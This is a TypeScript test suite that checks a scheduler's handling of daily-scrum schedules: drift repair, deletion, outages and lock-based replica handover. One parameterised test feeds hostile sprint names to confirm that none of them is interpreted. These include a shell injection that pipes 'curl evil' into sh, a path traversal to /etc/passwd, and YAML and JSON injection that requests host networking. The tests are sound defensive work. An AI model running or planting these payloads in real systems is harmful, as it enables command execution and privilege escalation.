import type { Sprint } from '@dsm/contracts'
import { isNative, openDatabase, type TestDatabase } from '@dsm/testing'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { openWorld, type Place, type World } from './world.ts'

const berlin = { timeZone: 'Europe/Berlin', dailyScrumAt: '09:30' }
const atHalfPastNine = { cron: '30 9 * * 1-5', timeZone: 'Europe/Berlin', active: true }

/** Other tests have locks on the same server. */
const heldHere = `from pg_locks where locktype = 'advisory' and granted
  and database = (select oid from pg_database where datname = current_database())`

/** What every scheduler promises, whatever keeps its schedules. Nothing here waits for the next look that comes by itself: what happens there is seen as it happens. */
export function schedulerConformance(name: string, openPlace: () => Promise<Place & { close: () => Promise<void> }>): void {
  describe(`daily scrums kept by ${name}`, { tags: ['K4'] }, () => {
    let place: Awaited<ReturnType<typeof openPlace>>
    let world: World
    let sprint: Sprint
    let database: TestDatabase

    beforeAll(async () => {
      database = await openDatabase('orchestrator')
    })
    afterAll(() => database.dispose())

    beforeEach(async () => {
      place = await openPlace()
      world = await openWorld(place, database)
      await world.project(berlin)
      sprint = await world.sprint()
    })
    afterEach(async () => {
      await world.stop()
      await place.close()
    })

    const seen = async (id = sprint.id) => (await place.look()).get(id)
    const untilSeen = (wanted: unknown = atHalfPastNine, id = sprint.id) => expect.poll(() => seen(id)).toEqual(wanted)
    const untilGone = (id = sprint.id) => expect.poll(() => seen(id)).toBeUndefined()
    const recorded = async () => world.record(sprint)

    test('are there as they are wanted, one for each sprint that is planned or active', async () => {
      const planned = await world.sprint({ status: 'planned', projectId: 'KIWI', key: 'KIWI-S01' })
      await world.project({ id: 'KIWI', timeZone: 'Pacific/Auckland', dailyScrumAt: '08:05' })
      await world.start()
      await untilSeen()
      await untilSeen({ cron: '5 8 * * 1-5', timeZone: 'Pacific/Auckland', active: true }, planned.id)
      await expect.poll(recorded).toMatchObject({ state: 'present', drift: [], repairs: 0, lastRepair: null })
    })

    test('stay untouched while they are as wanted, however often it is looked', async () => {
      await world.start({ resyncMs: 0 })
      await untilSeen()
      const before = await place.revision(sprint.id)
      const first = (await world.look())?.lookedAt
      await expect.poll(async () => (await world.look())?.lookedAt).not.toBe(first)
      const second = (await world.look())?.lookedAt
      await expect.poll(async () => (await world.look())?.lookedAt).not.toBe(second)
      expect(await place.revision(sprint.id)).toBe(before)
      expect(await recorded()).toMatchObject({ repairs: 0 })
    })

    test('move with the zone and the time of the project', async () => {
      await world.start()
      await untilSeen()
      await world.project({ timeZone: 'Asia/Kolkata', dailyScrumAt: '10:00' })
      await expect.poll(() => seen()).toEqual({ cron: '0 10 * * 1-5', timeZone: 'Asia/Kolkata', active: true })
    })

    test('that somebody changes are put right at once, and it is told what was changed', async () => {
      await world.start()
      await untilSeen()
      await place.changeIt(sprint.id)
      await untilSeen()
      await expect.poll(recorded).toMatchObject({ state: 'present', drift: [], repairs: 1 })
      expect((await recorded())?.lastRepair).toMatchObject({ reason: 'drifted', drift: expect.arrayContaining([expect.any(String)]) })
      expect(await world.registry.metrics()).toMatch(/dsm_schedule_repairs_total\{reason="drifted"\} 1/)
    })

    test('that somebody deletes are there again at once, not only at the next look', async () => {
      await world.start()
      await untilSeen()
      const before = await place.revision(sprint.id)
      await place.deleteIt(sprint.id)
      await expect.poll(async () => [await seen(), (await place.revision(sprint.id)) === before]).toEqual([atHalfPastNine, false])
      await expect.poll(recorded).toMatchObject({ repairs: 1, lastRepair: { reason: 'missing' } })
    })

    test('that another manager takes for its own are taken back; what it added and we do not claim stays', async () => {
      await world.start()
      await untilSeen()
      const isKept = await place.contest(sprint.id)
      await expect.poll(async () => (await recorded())?.repairs).toBeGreaterThan(0)
      await untilSeen()
      expect(await isKept()).toBe(true)
    })

    test('go with their sprints: closed or cancelled, it has none, and the others stay', async () => {
      const other = await world.sprint({ projectId: 'OTHER' })
      await world.start()
      await untilSeen()
      await world.end(sprint)
      await untilGone()
      expect((await seen(other.id))?.active).toBe(true)
      expect(await recorded()).toBeUndefined()
    })

    test('that nobody wants are taken away', async () => {
      const stray = '0192f0c1-2d3e-7a4b-8c5d-6e7f8091a2b3'
      await world.start()
      await untilSeen()
      await place.leaveStray(stray)
      await untilGone(stray)
      expect((await seen())?.active).toBe(true)
    })

    test('of a sprint that was planned and can be started no more are not wanted', async () => {
      const past = { startsOn: '2026-03-02', endsOn: '2026-03-06', workingDays: ['2026-03-02'] }
      const late = await world.sprint({ ...past, status: 'planned', projectId: 'LATE' })
      const overdue = await world.sprint({ ...past, status: 'active', projectId: 'OVERDUE' })
      await world.start()
      await expect.poll(async () => (await seen(overdue.id))?.active).toBe(true)
      expect(await seen(late.id)).toBeUndefined()
    })

    test('are adopted by whoever comes up next: what is well stays as it is, what is not is put right', async () => {
      const [deleted, changed, over] = [
        await world.sprint({ projectId: 'D' }),
        await world.sprint({ projectId: 'C' }),
        await world.sprint({ projectId: 'O' }),
      ]
      const stop = await world.start()
      for (const { id } of [sprint, deleted, changed, over]) await expect.poll(async () => (await seen(id))?.active).toBe(true)
      const before = await place.revision(sprint.id)
      await stop()
      await place.deleteIt(deleted.id)
      await place.changeIt(changed.id)
      await world.end(over)
      await world.start()
      const utc = { ...atHalfPastNine, cron: '0 9 * * 1-5', timeZone: 'UTC' }
      for (const { id } of [deleted, changed]) await untilSeen(utc, id)
      await untilGone(over.id)
      await untilSeen()
      if (place.goesAwayAlone) expect(await place.revision(sprint.id)).toBe(before)
    })

    test('are as wanted after an outage, whatever happened meanwhile, and nothing else waited for it', async () => {
      const stop = place.goesAwayAlone ? undefined : await world.start()
      if (!stop) await world.start()
      await untilSeen()
      await stop?.()
      await place.goAway()
      await world.end(sprint)
      const begun = await world.sprint({ projectId: 'NEXT' })
      if (place.goesAwayAlone) {
        await expect.poll(async () => (await world.look())?.fault).toEqual(expect.any(String))
        await expect.poll(async () => (await world.record(begun))?.state).toBe('unseen')
      }
      await place.comeBack()
      if (stop) await world.start()
      await expect.poll(async () => (await seen(begun.id))?.active).toBe(true)
      await untilGone()
      await expect.poll(async () => (await world.look())?.fault).toBeNull()
      const told = world.logLines.filter(({ msg }) => msg?.startsWith('daily scrums cannot be looked after'))
      expect(told.length).toBeLessThanOrEqual(1)
    })

    test.each([
      ['a shell', '$(touch /tmp/owned); `id` && curl evil | sh'],
      ['a YAML document', 'x\n---\nkind: Pod\nspec: {hostNetwork: true}'],
      ['a template', '{{ .Values.secret }} ${{ github.token }} %{x}'],
      ['a path', '../../../etc/passwd'],
      ['JSON', '","hostPID":true,"x":"'],
      ['what no label may be', `${'ü💥'.repeat(100)} \u202e`],
    ])('cannot be given orders by names: %s', async (_words, hostile) => {
      const { id } = await world.sprint({ projectId: 'HOSTILE', key: hostile, name: hostile, goal: hostile })
      await world.start()
      await untilSeen({ cron: '0 9 * * 1-5', timeZone: 'UTC', active: true }, id)
      const text = await place.text(id)
      expect(text).toContain(id)
      expect(text).not.toContain(JSON.stringify(hostile).slice(1, -1))
      expect(text.replaceAll(id, sprint.id)).toBe((await place.text(sprint.id)).replace('30 9', '0 9').replace('Europe/Berlin', 'UTC'))
    })

    test.skipIf(!isNative())(
      'are kept by one replica at a time, and by the next when that one goes (native only: embedded locks are shared)',
      async () => {
        const stopFirst = await world.start()
        await untilSeen()
        await world.start()
        await expect.poll(() => world.turnedAway()).toBeGreaterThan(1)
        const pids = async () => (await world.database.pool.query(`select pid ${heldHere}`)).rows
        expect(await pids()).toHaveLength(1)
        await stopFirst()
        await place.deleteIt(sprint.id)
        await untilSeen()
        expect(await pids()).toHaveLength(1)
      },
    )

    test.skipIf(!isNative())('are kept on when the database lost the one who kept them (native only)', async () => {
      await world.start()
      await untilSeen()
      const holders = async () => (await world.database.pool.query(`select pid ${heldHere}`)).rows
      const [before] = await holders()
      await world.database.pool.query(`select pg_terminate_backend(pid) ${heldHere}`)
      await expect.poll(async () => (await holders()).map(({ pid }) => pid !== before?.pid)).toEqual([true])
      await place.deleteIt(sprint.id)
      await expect.poll(() => seen()).toEqual(atHalfPastNine)
    })
  })
}
